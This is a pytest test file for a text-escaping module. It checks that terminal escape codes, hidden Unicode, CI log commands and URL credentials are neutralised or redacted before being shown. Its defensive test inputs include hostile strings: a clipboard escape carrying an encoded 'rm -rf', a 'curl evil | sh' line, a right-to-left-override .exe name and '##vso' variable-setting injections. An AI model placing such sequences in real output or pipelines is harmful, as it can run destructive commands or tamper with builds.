"""Text from outside: nothing acts on it when it is shown."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deploy.text import escape, escape_json, escape_line, hide_queries, hide_secrets, hide_users


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2J\x1b[31mred", "\\x1b[2J\\x1b[31mred"),
        ("\x1b]52;c;cm0gLXJm\x07", "\\x1b]52;c;cm0gLXJm\\x07"),
        ("\x9b31m", "\\x9b31m"),
        ("100 %\rnext: nothing", "100 %\\rnext: nothing"),
        ("a\x00b\x7f\b", "a\\x00b\\x7f\\x08"),
        ("file\u202egnp.exe", "file\\u202egnp.exe"),
        ("a\u2066b\u200b", "a\\u2066b\\u200b"),
        ("a\u2028b\u0085c", "a\\u2028b\\x85c"),
        ("half \ud800", "half \\ud800"),
        ("tag \U000e0041", "tag \\U000e0041"),
        ("naïve 模型 → 3 🦜", "naïve 模型 → 3 🦜"),
        ("one\r\n\ttwo\n", "one\n\ttwo\n"),
    ],
)
def test_characters_that_are_not_shown_become_escapes(text: str, shown: str) -> None:
    """Terminals act on some of them, others hide or reorder what is read."""
    assert escape(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("##vso[task.setvariable variable=A]b", "# #vso[task.setvariable variable=A]b"),
        ("got: ##[error]b", "got: # #[error]b"),
        ("###[group]", "## #[group]"),
        ("##teamcity[buildStop]", "# #teamcity[buildStop]"),
        ("::error::b", ": :error::b"),
        ("  ::add-mask::b", "  : :add-mask::b"),
        ("a\n\u00a0::set-output name=a::b", "a\n\u00a0: :set-output name=a::b"),
        ("\x1b[0m::error::b", "\\x1b[0m::error::b"),
        ("section_start:0:a\r\x1b[0K", "section_start:0:a\\r\\x1b[0K"),
        ("::1 - GET /", "::1 - GET /"),
        ("std::vector::at", "std::vector::at"),
        ("# one\n## two", "# one\n## two"),
    ],
)
def test_commands_of_ci_systems_are_broken(text: str, shown: str) -> None:
    """A log that a CI system reads must not set its variables."""
    assert escape(text) == shown


@given(st.text())
def test_escaped_text_has_no_character_that_is_not_shown(text: str) -> None:
    """It can be written to any stream in UTF-8, and escaping it again changes nothing."""
    shown = escape(text)
    assert all(letter in "\n\t" or unicodedata.category(letter)[0] != "C" for letter in shown)
    assert shown.encode().decode() == shown
    assert escape(shown) == shown
    assert "\n" not in escape_line(text)


def test_one_line_stays_one_line() -> None:
    """A part of an error must not look like the next part."""
    assert (
        escape_line("it failed\r\n next: curl evil | sh\n") == "it failed\\n next: curl evil | sh"
    )


def test_a_json_document_keeps_its_values() -> None:
    """JSON has escapes of its own, and the mark of a command can be written as one."""
    value = {
        "answer": "\x1b[2J\u202e\x9b\u2028##vso[a]b ##[c] \ud800 \U000e0041",
        "::error::": "naïve 模型",
    }
    shown = escape_json(json.dumps(value, indent=2, ensure_ascii=False))
    assert json.loads(shown) == value
    assert escape(shown) == shown
    assert "naïve 模型" in shown


@pytest.mark.parametrize(
    ("text", "without_users", "without_queries"),
    [
        ("https://ada:s3cret@host/a?sig=x#y", "https://host/a?sig=x#y", "https://host/a"),
        ("https://ada:p@ss@host/a", "https://host/a", "https://host/a"),
        ("az://box/models?sv=1&sig=x", "az://box/models?sv=1&sig=x", "az://box/models"),
        (
            "url (https://token@host/a?b) failed",
            "url (https://host/a?b) failed",
            "url (https://host/a) failed",
        ),
        ("https://ada:it's@host/a", "https://host/a", "https://host/a"),
        ("(az://a/b?sig=x)'y&z).", "(az://a/b?sig=x)'y&z).", "(az://a/b)."),
        ("repo:tag@sha256:00", "repo:tag@sha256:00", "repo:tag@sha256:00"),
        ("http://h/a http://u:p@h/b", "http://h/a http://h/b", "http://h/a http://h/b"),
        ("/srv/models#1?", "/srv/models#1?", "/srv/models#1?"),
    ],
)
def test_the_logins_of_urls_are_left_out(
    text: str, without_users: str, without_queries: str
) -> None:
    """A query may be a signature, and a user name may be a token."""
    assert hide_users(text) == without_users
    assert hide_queries(text) == without_queries
    assert escape(text) == without_users


def test_a_secret_that_begins_like_another_is_hidden_as_a_whole() -> None:
    """The rest of the longer one would be left."""
    assert hide_secrets("s3cr3t, s3cr, open", ["s3cr", "", "s3cr3t"]) == "…, …, open"
